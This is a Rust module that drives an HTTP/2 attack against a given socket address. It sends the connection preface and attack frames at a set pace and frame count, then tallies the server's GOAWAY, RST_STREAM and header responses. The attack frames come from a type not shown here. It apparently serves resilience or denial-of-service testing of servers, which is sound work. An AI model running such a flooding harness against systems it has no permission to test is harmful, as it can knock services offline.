//! Carrying an attack out, and what becomes of the attacker.

use std::{collections::BTreeMap, io, net::SocketAddr, sync::Arc, time::Duration};

use parking_lot::Mutex;
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::{TcpStream, tcp::OwnedReadHalf},
    time::{Instant, sleep_until, timeout, timeout_at},
};

use crate::{
    Attack,
    frame::{self, PREFACE, kind},
};

/// How long, how much and how fast.
#[derive(Clone, Copy, Debug)]
pub struct Plan {
    /// Frames at most.
    pub frames: u64,
    /// Frames each second; none for as many as are taken.
    pub pace: Option<u32>,
    /// How long to go on at most, and how long to wait for an end after the last frame.
    pub patience: Duration,
}

/// What became of an attacker.
#[derive(Clone, Debug, Default)]
pub struct Outcome {
    /// Frames that were sent.
    pub frames: u64,
    /// Bytes that were sent.
    pub bytes: u64,
    /// The reason of a GOAWAY, and what it says beside it.
    pub goaway: Option<(u32, String)>,
    /// Streams that were reset, by reason.
    pub resets: BTreeMap<u32, u64>,
    /// Heads of answers.
    pub answers: u64,
    /// The other side ended the connection.
    pub closed: bool,
}

/// Frames that are written at once; with a pace, no more than a hundredth of a second's.
const BATCH_BYTES: usize = 16 * 1024;

/// Attacks `to`.
///
/// # Errors
/// If there is no connection.
pub async fn run(to: SocketAddr, attack: Attack, plan: Plan) -> io::Result<Outcome> {
    let stream = TcpStream::connect(to).await?;
    stream.set_nodelay(true)?;
    let (read, mut write) = stream.into_split();
    let began = Instant::now();
    let end = began + plan.patience;
    let seen = Arc::<Mutex<Outcome>>::default();
    let mut reading = tokio::spawn(answers(read, Arc::clone(&seen)));
    let mut sent = Outcome::default();
    let mut batch = [PREFACE, &attack.opening()].concat();
    let most = plan
        .pace
        .map_or(u64::MAX, |pace| u64::from(pace / 100).max(1));
    let mut round = 0;
    let _over = timeout(plan.patience, async {
        // An error is an end, which the reader sees as well.
        while write.write_all(&batch).await.is_ok() {
            sent.bytes += batch.len() as u64;
            batch.clear();
            if sent.frames >= plan.frames || reading.is_finished() {
                break;
            }
            let mut frames = 0;
            while batch.len() < BATCH_BYTES && frames < most && sent.frames + frames < plan.frames {
                frames += attack.round(round, &mut batch);
                round += 1;
            }
            sent.frames += frames;
            if let Some(pace) = plan.pace {
                let at = Duration::from_secs_f64(precise(sent.frames) / f64::from(pace));
                sleep_until(began + at).await;
            }
        }
    })
    .await;
    let closed = timeout_at(end, &mut reading).await.is_ok();
    reading.abort();
    let seen = seen.lock().clone();
    Ok(Outcome {
        frames: sent.frames,
        bytes: sent.bytes,
        closed,
        ..seen
    })
}

/// Exact up to 2^53, which is more frames than are ever sent.
#[expect(clippy::cast_precision_loss, reason = "see above")]
fn precise(frames: u64) -> f64 {
    frames as f64
}

/// Reads to the end.
async fn answers(mut read: OwnedReadHalf, seen: Arc<Mutex<Outcome>>) {
    let mut bytes = Vec::new();
    while matches!(read.read_buf(&mut bytes).await, Ok(1..)) {
        while let Some(frame) = frame::take(&mut bytes) {
            seen.lock().note(&frame);
        }
    }
}

impl Outcome {
    fn note(&mut self, frame: &frame::Frame) {
        let number = |at: usize| {
            let bytes = frame.payload.get(at..)?.first_chunk()?;
            Some(u32::from_be_bytes(*bytes))
        };
        match frame.kind {
            kind::HEADERS => self.answers += 1,
            kind::RST_STREAM => {
                let reason = number(0).unwrap_or(u32::MAX);
                *self.resets.entry(reason).or_default() += 1;
            }
            kind::GOAWAY => {
                let said = frame.payload.get(8..).unwrap_or_default();
                let said = String::from_utf8_lossy(said).into_owned();
                self.goaway = Some((number(4).unwrap_or(u32::MAX), said));
            }
            _ => {}
        }
    }
}
